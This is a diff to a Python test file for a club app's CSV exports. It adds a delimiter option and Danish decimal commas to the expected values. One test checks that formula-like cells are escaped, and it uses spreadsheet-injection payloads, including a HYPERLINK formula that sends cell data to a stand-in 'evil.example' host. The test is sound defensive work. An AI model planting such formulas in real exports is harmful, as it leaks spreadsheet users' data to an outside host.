@@ -12,10 +12,11 @@ from club.models import Table
 FUNDING = "001 L250–L251"
 
 
-def read_csv(response) -> list[list[str]]:
+def read_csv(response, delimiter: str = ",") -> list[list[str]]:
+    """The rows of a CSV export; `;` for a Danish reader (the default language), `,` in English."""
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response.content.startswith("\ufeff".encode())  # the BOM Excel needs for æøå
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))
 
 
 def test_member_postings_with_running_balance(client, autumn):
@@ -60,7 +61,7 @@ def test_member_postings_with_running_balance(client, autumn):
 def test_member_postings_of_one_season(client, autumn):
     client.force_login(autumn.dorte.user)  # an official reads anyone's
     url = reverse("member-postings-csv", args=["vestbyen", autumn.carl.pk])
-    rows = read_csv(client.get(url, {"season": autumn.season.pk}))
+    rows = read_csv(client.get(url, {"season": autumn.season.pk}), ";")
     assert rows[-1][-1] == "39" and len(rows) == 1 + 12  # 4 in October, 6 on 4 November, 2 for the correction
 
 
@@ -98,13 +99,13 @@ def test_formula_cells_are_written_as_text(client, autumn):
     autumn.anna.save()
     Table.objects.update(name="+Bord 1")
     client.force_login(autumn.anna.user)
-    standings = read_csv(client.get(reverse("season-standings-csv", args=["vestbyen", autumn.season.pk])))
+    standings = read_csv(client.get(reverse("season-standings-csv", args=["vestbyen", autumn.season.pk])), ";")
     assert standings[1:] == [
-        ['\'=HYPERLINK("http://evil.example/"&A1)', "39", "9.75"],
-        ["'@SUM(1+1)", "-15", "-3.75"],
-        ["'\tAnna", "-24", "-6.00"],
+        ['\'=HYPERLINK("http://evil.example/"&A1)', "39", "9,75"],
+        ["'@SUM(1+1)", "-15", "-3,75"],
+        ["'\tAnna", "-24", "-6,00"],
     ]
     client.force_login(autumn.bent.user)
-    postings = read_csv(client.get(reverse("member-postings-csv", args=["vestbyen", autumn.bent.pk])))
+    postings = read_csv(client.get(reverse("member-postings-csv", args=["vestbyen", autumn.bent.pk])), ";")
     assert {row[2] for row in postings[1:]} == {"'+Bord 1"}
     assert [row[-2:] for row in postings[1:3]] == [["-20", "-20"], ["-20", "-40"]]
